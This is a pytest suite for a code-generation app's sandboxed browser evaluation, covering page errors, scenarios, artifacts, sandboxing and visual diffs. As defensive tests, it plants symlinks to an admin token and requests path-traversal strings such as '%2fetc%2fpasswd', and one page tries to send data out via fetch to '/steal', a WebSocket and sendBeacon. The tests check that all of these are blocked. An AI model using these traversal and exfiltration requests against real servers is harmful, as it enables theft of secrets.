"""The browser evaluation of a deployed preview: real Chromium, previews deployed by the real
flow in the real (default) sandbox, the scripted agent, and the HTTP API that serves the
evidence."""

import asyncio
import io
import json
import os
import socket
import textwrap
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from tests.conftest import Server, SettingsFactory, serve
from tests.support.projects import make_repository, recipe_text
from tests.support.waiting import run_settled, until

from codegenapp import artifacts
from codegenapp.db.queries import validations
from codegenapp.db.tables import ValidationRow
from codegenapp.domain.agent_settings import ScriptedAgentSettings
from codegenapp.domain.project_settings import (
    DeploymentSettings,
    ProjectSettings,
    ValidationSettings,
)
from codegenapp.domain.states import (
    AgentRunStatus,
    CheckName,
    StepName,
    ValidationKind,
    ValidationStatus,
)
from codegenapp.domain.web_eval_settings import WebEvalSettings
from codegenapp.flows import actions
from codegenapp.flows import projects as project_flows

Routes = dict[str, tuple[int, str, str]]
HTML = "text/html; charset=utf-8"
JS = "application/javascript"
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"

# The preview: answers /health, and every route of ROUTES as written (404 otherwise).
APP = textwrap.dedent(
    """\
    import json, os
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    ROUTES = json.loads({routes!r})


    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            path = self.path.split("?")[0]
            status, kind, body = ROUTES.get(path, [404, "text/plain", "not found"])
            if path == "/health":
                status, kind, body = 200, "text/plain", "ok"
            data = body.encode()
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass


    ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
    """
)
SHOP = "<html><body><h1>Shop</h1><script src='/app.js'></script></body></html>"
THROWING_JS = "function total(cart) {\n  return cart.items.length;\n}\ntotal(undefined);\n"
FIXED_JS = "function total(cart) {\n  return cart ? cart.items.length : 0;\n}\ntotal(undefined);\n"


def app(routes: Routes) -> str:
    return APP.format(routes=json.dumps(routes))


def _settings(web_eval: WebEvalSettings, *, max_retries: int = 0) -> ProjectSettings:
    return ProjectSettings(
        deployment_settings=DeploymentSettings(
            deploy_command="python3 web.py", health_check_url="/health", port=9000
        ),
        validation_settings=ValidationSettings(
            required_checks=[CheckName.HEALTH, CheckName.WEB_EVAL],
            max_retries=max_retries,
            validate_base_branch=False,
            web_eval=web_eval,
        ),
    )


async def _validate(
    server: Server,
    tmp_path: Path,
    turns: list[dict[str, object]],
    web_eval: WebEvalSettings,
    *,
    max_retries: int = 0,
) -> tuple[AgentRunStatus, list[ValidationRow]]:
    """Run a goal whose agent answers with `turns`; the run's end and its validations."""
    repo = make_repository(tmp_path / "repo", {"web.py": app({"/": (200, HTML, "<p>hi</p>")})})
    project = await project_flows.create_project(
        name=f"web-{tmp_path.name}",
        repository=str(repo),
        default_branch="main",
        agent=ScriptedAgentSettings(recipe=recipe_text(turns)),
        settings=_settings(web_eval, max_retries=max_retries),
    )
    run = await actions.start_run(project_id=project.id, goal="Show the shop")
    run = await run_settled(server.runtime, run.id, timeout=180)
    async with server.runtime.database.read() as session:
        rows, _ = await validations.list_validations(session, agent_run_id=run.id)
    return AgentRunStatus(run.status), sorted(rows, key=lambda row: row.attempt)


async def _get(server: Server, path: str, **headers: str) -> httpx.Response:
    async with httpx.AsyncClient(base_url=server.url, headers=server.headers, timeout=30) as api:
        return await api.get(path, headers=headers)


async def _findings(server: Server, validation_id: int) -> dict[str, object]:
    response = await _get(server, f"/api/v1/validations/{validation_id}/artifacts/findings.json")
    assert response.status_code == 200, response.text
    body: dict[str, object] = response.json()
    return body


async def test_a_page_that_throws_on_load_fails_with_its_error_and_a_screenshot_then_the_fix_passes(
    server: Server, tmp_path: Path
) -> None:
    throwing = app({"/": (200, HTML, SHOP), "/app.js": (200, JS, THROWING_JS)})
    fixed = app({"/": (200, HTML, SHOP), "/app.js": (200, JS, FIXED_JS)})
    status, (first, second) = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": throwing}}, {"files": {"web.py": fixed}}],
        WebEvalSettings(pages=["/"]),
        max_retries=1,
    )

    assert status is AgentRunStatus.COMPLETED
    assert (first.status, first.failed_step) == (ValidationStatus.FAILED, StepName.WEB_EVAL)
    assert first.failed_check == CheckName.WEB_EVAL
    assert (first.reason or "").startswith(
        "page / threw TypeError: Cannot read properties of undefined (reading 'items') "
        "at /app.js:2:"
    )
    context = first.error_context or ""
    assert "failed at check `web_eval` (in step `web_eval`)" in context
    assert "uncaught TypeError: Cannot read properties of undefined (reading 'items')" in context
    assert "at total (/app.js:2:" in context  # where, in the pull request's own file
    assert 'heading "Shop"' in context  # what the page showed
    assert second.status == ValidationStatus.PASSED
    assert second.checks.get("web_eval") == "passed"

    read = (await _get(server, f"/api/v1/validations/{first.id}")).json()
    kinds = {artifact["name"]: artifact["kind"] for artifact in read["artifacts"]}
    assert kinds == {
        "page-0.png": "screenshot",
        "page-0.txt": "page_text",
        "findings.json": "findings",
        "trace.zip": "trace",
    }
    shot = next(artifact for artifact in read["artifacts"] if artifact["name"] == "page-0.png")
    image = await _get(server, shot["url"])
    assert image.status_code == 200
    assert image.headers["content-type"] == "image/png"
    assert image.content.startswith(PNG_MAGIC)
    assert len(image.content) == shot["size"]
    findings = await _findings(server, first.id)
    assert findings["passed"] is False
    [page] = findings["evaluation"]["pages"]  # type: ignore[index]
    assert page["status"] == 200
    [error] = page["seen"]["page_errors"]
    assert (error["location"]["url"], error["location"]["line"]) == ("/app.js", 2)
    await _check_trace(server, first.id)
    # The attempt that passed keeps no trace.
    passed = (await _get(server, f"/api/v1/validations/{second.id}")).json()
    assert "trace" not in {artifact["kind"] for artifact in passed["artifacts"]}
    assert {"page-0.png", "findings.json"} <= {a["name"] for a in passed["artifacts"]}
    findings = await _findings(server, second.id)
    assert "trace.zip" not in findings["evaluation"]["artifacts"]  # type: ignore[index]


async def _check_trace(server: Server, validation_id: int, *, whole: bool = True) -> set[str]:
    """The validation's trace.zip, served with the token only, is Playwright's trace: its
    members' names. Not `whole`: a trace cut by a timeout may hold no screenshot or snapshot
    yet (on a loaded machine the page had not painted), only the actions and the network."""
    url = f"/api/v1/validations/{validation_id}/artifacts/trace.zip"
    async with httpx.AsyncClient(base_url=server.url) as anonymous:
        assert (await anonymous.get(url)).status_code == 401
    response = await _get(server, url)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as trace:
        assert trace.testzip() is None
        names = set(trace.namelist())
    assert {"trace.trace", "trace.network"} <= names
    if whole:
        assert any(name.startswith("screencast/") for name in names)  # screenshots=True
        assert any(name.startswith("resources/") for name in names)  # snapshots=True
    return names


async def test_a_scenario_whose_button_does_nothing_fails_at_that_step(
    server: Server, tmp_path: Path
) -> None:
    shop = (
        "<html><body><h1>Shop</h1><button onclick='void 0'>Add to cart</button>"
        "<p id=cart>Your cart is empty</p></body></html>"
    )
    web_eval = WebEvalSettings.model_validate(
        {
            "pages": [],
            "scenarios": [
                {
                    "name": "Add to cart",
                    "steps": [
                        {"goto": "/"},
                        {"click": "Add to cart"},
                        {"expect_text": "1 item in your cart"},
                    ],
                },
                {"name": "Buy", "steps": [{"goto": "/"}, {"click": "Buy now"}]},
            ],
        }
    )
    status, [validation] = await _validate(
        server, tmp_path, [{"files": {"web.py": app({"/": (200, HTML, shop)})}}], web_eval
    )

    assert status is AgentRunStatus.FAILED
    assert validation.failed_step == StepName.WEB_EVAL
    assert (validation.reason or "").startswith(
        'scenario "Add to cart" failed at step 2 (expect_text "1 item in your cart"): expected '
        'the page shows "1 item in your cart"; not within 5 s; the page shows: "Shop Add to '
        'cart Your cart is empty"'
    )
    context = validation.error_context or ""
    assert '2. expect_text "1 item in your cart": FAILED' in context
    assert '1. click "Add to cart": clicked' in context
    # The other scenario names the button it could not find, and the ones there are.
    assert '"Buy": failed at step 1' in context
    assert 'its buttons and links: "Add to cart"' in context
    names = {
        a["name"]
        for a in (await _get(server, f"/api/v1/validations/{validation.id}")).json()["artifacts"]
    }
    assert {"scenario-0.png", "scenario-1.png", "scenario-0.txt"} <= names


async def test_failed_requests_and_accessibility_violations_are_reported_and_fail_the_step(
    server: Server, tmp_path: Path
) -> None:
    page = (
        "<html><body><h1>Logo</h1><img src='/logo.png'><script src='/lib.js'></script>"
        "</body></html>"
    )
    status, [validation] = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": app({"/": (200, HTML, page)})}}],
        WebEvalSettings(pages=["/"], accessibility="fail"),
    )

    assert status is AgentRunStatus.FAILED
    context = validation.error_context or ""
    assert "failed request: GET /logo.png -> 404 Not Found" in context
    assert "failed request: GET /lib.js -> 404 Not Found" in context
    assert "accessibility: image-alt (critical)" in context
    assert "console error" not in context  # Chromium's echoes of the 404s are not the page's
    findings = await _findings(server, validation.id)
    [seen] = findings["evaluation"]["pages"]  # type: ignore[index]
    assert {(r["url"], r["status"]) for r in seen["seen"]["failed_requests"]} == {
        ("/logo.png", 404),
        ("/lib.js", 404),
    }
    [violations] = [p for p in findings["problems"] if "accessibility violation" in p]  # type: ignore[attr-defined]
    assert violations.startswith("page / has ")
    assert "image-alt" in violations


async def test_artifacts_are_served_only_from_their_place_and_only_with_the_token(
    server: Server, tmp_path: Path
) -> None:
    status, [validation] = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": app({"/": (200, HTML, "<h1>Hello</h1>")})}}],
        WebEvalSettings(pages=["/"]),
    )
    assert status is AgentRunStatus.COMPLETED
    base = f"/api/v1/validations/{validation.id}/artifacts"
    assert (await _get(server, f"{base}/page-0.txt")).text.startswith('- heading "Hello"')
    # Something a request might want that is not an artifact: a file beside the directory,
    # and a link planted inside it.
    directory = server.settings.artifacts_root / "validations" / str(validation.id)
    (directory.parent / "secret.txt").write_text("not an artifact")
    os.symlink(server.settings.home / "admin-token", directory / "token.txt")
    os.symlink(directory.parent / "secret.txt", directory / "secret.txt")

    async with httpx.AsyncClient(base_url=server.url) as anonymous:
        refused = await anonymous.get(f"{base}/page-0.png")
        assert refused.status_code == 401
    for name, expected in [
        ("token.txt", 404),  # a link is never followed
        ("secret.txt", 404),
        ("missing.png", 404),
        ("%2e%2e", 422),
        ("..%2fsecret.txt", 404),  # the decoded '/' leaves no artifact route to match
        ("%2fetc%2fpasswd", 404),
        ("page-0.PNG", 422),
        (".page-0.png", 422),
    ]:
        response = await _get(server, f"{base}/{name}")
        assert response.status_code == expected, (name, response.text)
    absolute = await _get(server, f"{base}//etc/passwd")
    assert absolute.status_code == 404
    other = await _get(server, f"/api/v1/validations/{validation.id + 1000}/artifacts/page-0.png")
    assert other.status_code == 404


@pytest.fixture
def loopback_listener() -> Iterator[tuple[int, list[tuple[str, int]]]]:
    """A port on loopback that records every connection made to it."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    seen: list[tuple[str, int]] = []
    stop = False

    def accept() -> None:
        while not stop:
            try:
                connection, peer = listener.accept()
            except TimeoutError:
                continue
            seen.append(peer)
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1], seen
    finally:
        stop = True
        thread.join()
        listener.close()


async def test_the_browser_reaches_nothing_but_the_preview(
    server: Server, tmp_path: Path, loopback_listener: tuple[int, list[tuple[str, int]]]
) -> None:
    port, connections = loopback_listener
    other = f"http://127.0.0.1:{port}"
    page = f"""<html><head><link rel=preconnect href="{other}"></head><body><h1>Nosy</h1>
<img src="{other}/pixel.png" alt="pixel">
<script>
const quiet = () => {{}};
fetch("{server.url}/api/v1/projects").catch(quiet);
fetch("http://example.invalid/collect").catch(quiet);
fetch("{other}/steal").catch(quiet);
const socket = new WebSocket("ws://127.0.0.1:{port}/ws"); socket.onerror = quiet;
navigator.sendBeacon("{other}/beacon", "x");
</script></body></html>"""
    status, [validation] = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": app({"/": (200, HTML, page)})}}],
        WebEvalSettings(pages=["/"]),
    )

    findings = await _findings(server, validation.id)
    [seen] = findings["evaluation"]["pages"]  # type: ignore[index]
    blocked = {item["url"] for item in seen["seen"]["blocked_requests"]}
    assert {
        f"{server.url}/api/v1/projects",
        "http://example.invalid/collect",
        f"{other}/steal",
        f"{other}/pixel.png",
        f"ws://127.0.0.1:{port}/ws",
        f"{other}/beacon",
    } <= blocked
    await asyncio.sleep(0.5)  # a connection would have been accepted by now; none may come
    assert connections == []
    # Reported, not failed: a page may try a CDN that the preview cannot reach anyway.
    assert (status, validation.status) == (AgentRunStatus.COMPLETED, ValidationStatus.PASSED)
    step = await _step_log(server, validation.id)
    assert f"blocked, outside the preview (never sent): fetch {server.url}/api/v1/projects" in step


async def _step_log(server: Server, validation_id: int) -> str:
    response = await _get(server, f"/api/v1/validations/{validation_id}/steps/web_eval/log")
    return response.text


async def test_the_browser_runs_unprivileged_with_its_own_sandbox_on(
    server: Server, tmp_path: Path
) -> None:
    status, _ = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": app({"/": (200, HTML, "<h1>Up</h1>")})}}],
        WebEvalSettings(pages=["/"]),
    )
    assert status is AgentRunStatus.COMPLETED
    browsers = _chromium_processes()
    assert browsers, "the warm browser is not running"
    expected = 65534 if os.geteuid() == 0 else os.geteuid()
    assert {uid for _, uid, _ in browsers} == {expected}
    # Chromium's own sandbox stays on: no process of it was started with --no-sandbox.
    assert not [args for _, _, args in browsers if "--no-sandbox" in args]
    if os.geteuid() == 0:  # and all of it sits in the browser's control group, limits set
        groups = {_memory_group(pid) for pid, _, _ in _chromium_processes()}
        assert groups == {f"browser-{os.getpid()}"}, groups


def _chromium_processes() -> list[tuple[int, int, str]]:
    """(pid, uid, command line) of the Chromium processes this test process started."""
    parents, found = {}, []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            status = (entry / "status").read_text()
            exe = os.readlink(entry / "exe")
            args = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:  # it ended meanwhile
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        parents[int(entry.name)] = int(fields["PPid"])
        if exe.startswith("/usr/lib/chromium/"):
            found.append((int(entry.name), int(fields["Uid"].split()[1]), args))
    return [(pid, uid, args) for pid, uid, args in found if _descends(pid, os.getpid(), parents)]


def _memory_group(pid: int) -> str:
    """The last component of the memory cgroup `pid` is in (v1 'memory', or v2's one tree)."""
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if "memory" in controllers.split(",") or (controllers == "" and path != "/"):
            return path.rsplit("/", 1)[-1]
    return ""


def _descends(pid: int, ancestor: int, parents: dict[int, int]) -> bool:
    while pid > 1:
        pid = parents.get(pid, 0)
        if pid == ancestor:
            return True
    return False


async def test_an_evaluation_that_outlives_its_timeout_says_where_it_was(
    server: Server, tmp_path: Path
) -> None:
    # The page's image never comes, so the page never finishes loading.
    slow = "<html><body><h1>Slow</h1><img src='/hang.png' alt='x'></body></html>"
    hanging = app({"/": (200, HTML, slow)}).replace(
        "        data = body.encode()",
        "        if path == '/hang.png':\n            __import__('time').sleep(60)\n"
        "        data = body.encode()",
    )
    status, [validation] = await _validate(
        server,
        tmp_path,
        [{"files": {"web.py": hanging}}],
        WebEvalSettings(pages=["/"], timeout_seconds=5),
    )

    assert status is AgentRunStatus.FAILED
    assert validation.failed_step == StepName.WEB_EVAL
    assert (validation.reason or "").startswith(
        "the evaluation did not finish within 5 s (it was at page /)"
    )
    await _check_trace(server, validation.id, whole=False)  # what the browser did until then


HOME = "<html><body><h1>Shop</h1><p>Welcome to the shop.</p></body></html>"
PLAIN_ABOUT = "<html><body><h1>About us</h1><p>We sell things.</p></body></html>"
DARK_ABOUT = (
    "<html><body style='margin:0;background:#1e3a8a;color:#fde047;min-height:100vh'>"
    "<h1 style='font-size:120px'>About us, redone</h1></body></html>"
)


async def test_a_large_change_on_a_page_the_goal_does_not_mention_is_reported_not_failed(
    server: Server, tmp_path: Path
) -> None:
    before = app({"/": (200, HTML, HOME), "/about": (200, HTML, PLAIN_ABOUT)})
    after = app({"/": (200, HTML, HOME), "/about": (200, HTML, DARK_ABOUT)})
    repo = make_repository(tmp_path / "repo", {"web.py": before})
    settings = _settings(WebEvalSettings(pages=["/", "/about"]))
    compared = settings.validation_settings.model_copy(
        update={"validate_base_branch": True, "auto_merge": False}
    )
    project = await project_flows.create_project(
        name=f"web-{tmp_path.name}",
        repository=str(repo),
        default_branch="main",
        agent=ScriptedAgentSettings(recipe=recipe_text([{"files": {"web.py": after}}])),
        settings=settings.model_copy(update={"validation_settings": compared}),
    )

    async def baseline() -> ValidationRow | None:
        async with server.runtime.database.read() as session:
            rows, _ = await validations.list_validations(
                session, project_id=project.id, kind=ValidationKind.BASELINE.value
            )
        return rows[0] if rows and ValidationStatus(rows[0].status).is_final else None

    base = await until(server.runtime, baseline, timeout=180)  # created with the project
    assert base.status == ValidationStatus.PASSED, base.reason
    run = await actions.start_run(project_id=project.id, goal="Greet visitors on the home page")
    run = await run_settled(server.runtime, run.id, timeout=180)
    async with server.runtime.database.read() as session:
        [validation], _ = await validations.list_validations(session, agent_run_id=run.id)
        step = await validations.get_step(session, validation.id, StepName.WEB_EVAL)

    assert validation.status == ValidationStatus.PASSED, validation.reason
    label = f"main at {base.head_sha[:7]}"
    findings = await _findings(server, validation.id)
    changes = {change["path"]: change for change in findings["visual_changes"]}  # type: ignore[attr-defined]
    assert set(changes) == {"/", "/about"}
    about, home = changes["/about"], changes["/"]
    assert (about["large"], about["mentioned"], about["base"]) == (True, False, label)
    assert (about["screenshot"], about["base_screenshot"]) == ("page-1.png", "base-page-1.png")
    assert about["changed"] >= 0.5
    assert (home["large"], home["mentioned"]) == (False, True)
    assert home["changed"] < 0.1
    assert findings["passed"] is True  # reported, not failed
    assert step is not None
    percent = f"{about['changed']:.0%}"
    assert (
        f"page /about: {percent} of its pixels differ from the base branch ({label}), and the "
        "goal does not mention it: reported, not failed"
    ) in step.log
    read = (await _get(server, f"/api/v1/validations/{validation.id}")).json()
    kinds = {artifact["name"]: artifact["kind"] for artifact in read["artifacts"]}
    assert kinds["base-page-1.png"] == kinds["base-page-0.png"] == "screenshot"
    image = await _get(server, f"/api/v1/validations/{validation.id}/artifacts/base-page-1.png")
    assert image.status_code == 200
    original = await _get(server, f"/api/v1/validations/{base.id}/artifacts/page-1.png")
    assert image.content == original.content
    assert image.content.startswith(PNG_MAGIC)


async def test_a_bad_step_is_a_422_naming_it_and_nothing_is_saved(
    server: Server, tmp_path: Path
) -> None:
    repo = make_repository(tmp_path / "repo", {"web.py": app({})})
    body = {
        "name": "shop",
        "repository": str(repo),
        "agent": {"provider": "scripted", "recipe": recipe_text([{"reply": "hi"}])},
        "validation_settings": {
            "web_eval": {"scenarios": [{"name": "Buy", "steps": [{"goto": "/"}, {"tap": "Buy"}]}]}
        },
    }
    async with httpx.AsyncClient(base_url=server.url, headers=server.headers) as api:
        refused = await api.post("/api/v1/projects", json=body)
        listed = await api.get("/api/v1/projects")
    assert refused.status_code == 422
    assert refused.json()["detail"] == (
        "validation_settings.web_eval.scenarios.0.steps.1: a step has exactly one key, one of "
        "goto, click, fill, expect_text, expect_url; 'tap' is not a step"
    )
    assert listed.json()["total"] == 0


async def test_artifacts_older_than_their_retention_are_removed_at_start_up(
    make_settings: SettingsFactory,
) -> None:
    settings = make_settings(artifact_retention_days=7)
    old = artifacts.fresh_dir(settings.artifacts_root, 1)
    (old / "page-0.png").write_bytes(PNG_MAGIC)
    recent = artifacts.fresh_dir(settings.artifacts_root, 2)
    ten_days_ago = time.time() - 10 * 86400
    os.utime(old, (ten_days_ago, ten_days_ago))

    async for running_server in serve(settings):
        assert not old.exists()
        assert recent.is_dir()
        listed = await _get(running_server, "/api/v1/validations/1/artifacts/page-0.png")
        assert listed.status_code == 404  # no such validation, and nothing left of it
